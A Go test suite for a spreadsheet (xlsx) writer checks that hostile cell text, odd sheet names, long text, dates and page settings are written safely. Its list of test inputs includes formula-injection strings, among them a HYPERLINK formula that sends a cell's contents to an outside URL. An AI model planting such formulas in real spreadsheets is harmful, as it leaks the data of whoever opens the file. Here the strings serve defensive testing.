package spreadsheet_test

import (
	"bytes"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"github.com/coursemark/coursemark/internal/spreadsheet"
	"github.com/coursemark/coursemark/internal/spreadsheet/xlsxtest"
)

// hostile are texts that have broken workbooks, or the people who opened them.
var hostile = []string{
	`=HYPERLINK("https://example.org/?"&A1,"x")`, "=1+1", "+31 6 1234", "-7", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
	"_x0041_", "_x005F_x0041_", "_xZZZZ_", "a_x000D_b", "00123", "1e5", "2026-03-01", "TRUE", "1/2",
	"Ada \x00\x01\x1b\x7f", "bad \xff\xfe bytes", "\ufffe\uffff", "<b>&amp;'\"]]>", "  blanks  ", "line\r\nline\rline",
	"Ωμέγα Ðað 漢字", "شيرين عبد", "\u202bעברית\u202c", "👩🏽‍⚕️ Åsa", "O'Brien", strings.Repeat("long ", 20),
}

// shown is what a reader must get for a text.
func shown(s string) string {
	s = strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
	return strings.Map(func(r rune) rune {
		if r < 0x20 && r != '\t' && r != '\n' || r == 0xfffe || r == 0xffff {
			return 0xfffd
		}
		return r
	}, s)
}

func rows(cells ...[]spreadsheet.Cell) func(func([]spreadsheet.Cell) bool) {
	return slices.Values(cells)
}

func write(t testing.TB, b spreadsheet.Workbook) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := spreadsheet.Write(&out, b); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestHostileText(t *testing.T) {
	sheet := spreadsheet.Sheet{Name: "Data",
		Columns: []spreadsheet.Column{{Header: "Text"}, {Header: "Wrapped", Wrap: true}}}
	var all [][]spreadsheet.Cell
	for _, s := range hostile {
		all = append(all, []spreadsheet.Cell{spreadsheet.Text(s), spreadsheet.Text(s)})
	}
	sheet.Rows = rows(all...)
	src := write(t, spreadsheet.Workbook{Sheets: []spreadsheet.Sheet{sheet}})
	got := xlsxtest.Open(t, src).Sheet(t, "Data")
	f, err := excelize.OpenReader(bytes.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, s := range hostile {
		ref := fmt.Sprintf("A%d", i+2)
		want := shown(s)
		if c := got.Cells[ref]; c.Text != want || c.Number != "" {
			t.Errorf("%q reads as %q", s, c.Text+c.Number)
		}
		if v, err := f.GetCellValue("Data", ref); err != nil || v != want {
			t.Errorf("%q reads as %q through excelize (%v)", s, v, err)
		}
		if formula, _ := f.GetCellFormula("Data", ref); formula != "" {
			t.Errorf("%q became the formula %q", s, formula)
		}
		id, err := f.GetCellStyle("Data", ref)
		if err != nil {
			t.Fatal(err)
		}
		quoted := f.Styles.CellXfs.Xf[id].QuotePrefix
		if starts := strings.ContainsAny(want[:1], "=+-@\t\n"); starts != (quoted != nil && *quoted) {
			t.Errorf("%q: quotePrefix is %v", s, !starts)
		}
	}
}

func TestLongTextIsCutVisibly(t *testing.T) {
	for _, s := range []string{strings.Repeat("x", 40_000), strings.Repeat("👩", 17_000), strings.Repeat("é", 32_767),
		strings.Repeat("é", 32_768)} {
		src := write(t, spreadsheet.Workbook{Sheets: []spreadsheet.Sheet{{Name: "Data",
			Columns: []spreadsheet.Column{{Header: "Text"}}, Rows: rows([]spreadsheet.Cell{spreadsheet.Text(s)})}}})
		got := xlsxtest.Open(t, src).Sheet(t, "Data").Text("A2")
		n := len(utf16.Encode([]rune(got)))
		fits := len(utf16.Encode([]rune(s))) <= 32767
		if fits != (got == s) || !fits && (!strings.HasSuffix(got, "…") || n < 32_766) {
			t.Errorf("%d units of %q… became %d", len(utf16.Encode([]rune(s))), s[:4], n)
		}
	}
}

func TestNamesOfSheetsAndHeaders(t *testing.T) {
	given := []string{"History", "history", "a/b:c*d?e[f]g\\h", "A team of the community mental health service north",
		"a team of the community mental health service NORTH", "", "'quoted'", "Ward 👩🏽‍⚕️ 👩🏽‍⚕️ 👩🏽‍⚕️ 👩🏽‍⚕️ 👩🏽‍⚕️",
		"  ", "Sheet1", "=cmd", "قسم"}
	b := spreadsheet.Workbook{}
	front := spreadsheet.Sheet{Name: "Front", Page: true, Columns: []spreadsheet.Column{{Header: "Links"}}}
	var links [][]spreadsheet.Cell
	for _, n := range given {
		links = append(links, []spreadsheet.Cell{spreadsheet.Link(n, n)})
	}
	front.Rows = rows(links...)
	b.Sheets = append(b.Sheets, front)
	for _, n := range given {
		b.Sheets = append(b.Sheets, spreadsheet.Sheet{Name: n, Columns: []spreadsheet.Column{
			{Header: "Role"}, {Header: "role"}, {Header: "ROLE\n"}, {Header: ""}, {Header: "_x0041_"}, {Header: "=1+1"},
			{Header: "123"}, {Header: strings.Repeat("very long ", 40)}, {Header: "\x01"},
		}})
	}
	book := xlsxtest.Open(t, write(t, b))
	if len(book.Sheets) != len(given)+1 {
		t.Fatalf("%d sheets", len(book.Sheets))
	}
	for _, l := range strings.Split(book.Sheets[0].XML, "<hyperlink ")[1:] {
		found := false
		for _, s := range book.Sheets {
			quoted := strings.NewReplacer("'", "&#39;&#39;", "&", "&amp;").Replace(s.Name)
			found = found || strings.Contains(l, `location="&#39;`+quoted+`&#39;!A1"`)
		}
		if !found {
			t.Errorf("a link that leads nowhere: %.80s", l)
		}
	}
	if h := book.Sheets[1].Header(); h[1] != "role (2)" || h[2] != "ROLE (3)" || h[3] != "Column 4" ||
		len(utf16.Encode([]rune(h[7]))) > 255 {
		t.Errorf("headers %q", h)
	}
}

func TestTypesAndPage(t *testing.T) {
	b := spreadsheet.Workbook{
		Properties: spreadsheet.Properties{Title: "Matrix & more", Organisation: "St Brigid's", Application: "test",
			Date: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)},
		Sheets: []spreadsheet.Sheet{{
			Name: "Data", Identity: 2, Tab: "FF0000",
			Columns: []spreadsheet.Column{{Header: "ID"}, {Header: "Name"}, {Header: "Day", Kind: spreadsheet.Day},
				{Header: "Clock", Kind: spreadsheet.Moment}, {Header: "Share", Kind: spreadsheet.Share},
				{Header: "N", Kind: spreadsheet.Integer},
				{Header: "Plan", Open: true, Prompt: "What will be done"},
				{Header: "By", Kind: spreadsheet.Day, Open: true},
				{Header: "State", Open: true, Choices: []string{"open", "done"}}},
			Rows: rows(
				[]spreadsheet.Cell{spreadsheet.Text("00123"), spreadsheet.Text("Ann"), spreadsheet.Date("2026-03-01"),
					spreadsheet.Clock("2026-03-01T14:05:00+02:00"), spreadsheet.Percent(250.0 / 3), spreadsheet.Int(7)},
				[]spreadsheet.Cell{spreadsheet.Text("7"), {}, spreadsheet.Date("soon"), spreadsheet.Date(""), {},
					spreadsheet.Number(0)},
			),
			Marks: []spreadsheet.Mark{{From: 1, To: 1, Symbol: `"A`, Tone: spreadsheet.Bad},
				{From: 1, To: 1, Symbol: "n", Also: "A", Anywhere: true}},
			Chart: &spreadsheet.Chart{Title: "Shares", Alt: "One bar.", Category: 1, Last: 1,
				Series: []spreadsheet.Series{{Column: 5}}},
		}},
	}
	src := write(t, b)
	book := xlsxtest.Open(t, src)
	s := book.Sheet(t, "Data")
	for ref, want := range map[string]string{"A2": "00123", "C2": "46082", "C3": "soon", "E2": "0.833333333333333",
		"F2": "7", "F3": "0", "D3": ""} {
		if got := s.Text(ref); got != want {
			t.Errorf("%s is %q, not %q", ref, got, want)
		}
	}
	for _, want := range []string{`<pane activePane="bottomRight" state="frozen" topLeftCell="C2" xSplit="2" ySplit="1"`, `fitToPage="true"`, `orientation="landscape"`, `fitToWidth="1"`, `Page &amp;P of &amp;N`, "Matrix &amp;&amp; more", `numberStoredAsText="true"`, `type="list"`, `type="date"`, `type="textLength"`, "FF0000"} {
		if !strings.Contains(s.XML, want) {
			t.Errorf("no %s in the sheet", want)
		}
	}
	if s.PrintTitles != "'Data'!$A:$B,'Data'!$1:$1" {
		t.Errorf("print titles %s", s.PrintTitles)
	}
	if core := book.Parts["docProps/core.xml"]; !strings.Contains(core, "2026-11-30T00:00:00Z") ||
		strings.Contains(core, "xuri") || strings.Contains(core, "2006-09") {
		t.Errorf("properties %s", core)
	}
	drawing := book.Parts["xl/drawings/drawing1.xml"]
	if !strings.Contains(drawing, `descr="One bar."`) {
		t.Errorf("no alt text in %s", drawing)
	}
	table, err := spreadsheet.ReadTable("x.xlsx", src)
	if err != nil || table.Rows[0].Cells[0] != "00123" || table.Rows[0].Cells[2] != "2026-03-01" ||
		table.Rows[0].Cells[3] != "2026-03-01 14:05" {
		t.Errorf("read back %v, %v", table.Rows, err)
	}
}

func TestEmptyTableHasARow(t *testing.T) {
	b := spreadsheet.Workbook{Sheets: []spreadsheet.Sheet{{Name: "A", Columns: []spreadsheet.Column{{Header: "x"}},
		Empty: "No gaps."}, {Name: "B", Columns: []spreadsheet.Column{{Header: "x"}, {Header: "y"}}}}}
	book := xlsxtest.Open(t, write(t, b))
	if got := book.Sheets[0].Text("A2") + book.Sheets[1].Text("A2"); got != "No gaps.none" {
		t.Errorf("rows %q", got)
	}
}

func TestRowsRollOver(t *testing.T) {
	var all [][]spreadsheet.Cell
	for i := range 25 {
		all = append(all, []spreadsheet.Cell{spreadsheet.Int(i)})
	}
	b := spreadsheet.Workbook{Sheets: []spreadsheet.Sheet{
		{Name: "Data", Columns: []spreadsheet.Column{{Header: "n", Kind: spreadsheet.Integer}}, Rows: rows(all...)},
		{Name: "data (2)", Columns: []spreadsheet.Column{{Header: "n"}}},
	}}
	var out bytes.Buffer
	if err := spreadsheet.WriteLimited(&out, b, 10); err != nil {
		t.Fatal(err)
	}
	book := xlsxtest.Open(t, out.Bytes())
	var names, last []string
	for _, s := range book.Sheets {
		names = append(names, s.Name)
		last = append(last, s.Text(fmt.Sprintf("A%d", s.LastRow)))
	}
	if got := fmt.Sprint(names, last); got != "[Data Data (3) Data (4) data (2)] [9 19 24 none]" {
		t.Error(got)
	}
}

func TestSameBytes(t *testing.T) {
	b := spreadsheet.Workbook{}
	for i := range 12 {
		b.Sheets = append(b.Sheets,
			spreadsheet.Sheet{Name: fmt.Sprint("Sheet ", i),
				Columns: []spreadsheet.Column{{Header: "a"}, {Header: "b"}},
				Rows:    rows([]spreadsheet.Cell{spreadsheet.Int(i), spreadsheet.URL("web", "https://example.org")}),
				Chart:   &spreadsheet.Chart{Title: "c", Series: []spreadsheet.Series{{Column: 0}}}})
	}
	first := write(t, b)
	xlsxtest.Open(t, first)
	for range 5 {
		again := write(t, b)
		if bytes.Equal(first, again) {
			continue
		}
		one, two := xlsxtest.Open(t, first), xlsxtest.Open(t, again)
		for name, part := range one.Parts {
			if two.Parts[name] != part {
				t.Fatalf("two writes differ in %s:\n%s\n%s", name, part, two.Parts[name])
			}
		}
		t.Fatal("two writes differ")
	}
}

func TestNoTemporaryFilesRemain(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	t.Setenv("TMP", dir)
	long := strings.Repeat("x", 1000)
	src := write(t, spreadsheet.Workbook{Sheets: []spreadsheet.Sheet{{Name: "Data",
		Columns: []spreadsheet.Column{{Header: "a"}}, Rows: func(yield func([]spreadsheet.Cell) bool) {
			for range 40_000 {
				if !yield([]spreadsheet.Cell{spreadsheet.Text(long)}) {
					return
				}
			}
		}}}})
	if left, err := os.ReadDir(dir); err != nil || len(left) > 0 || len(src) == 0 {
		t.Errorf("left behind: %v (%v)", left, err)
	}
}
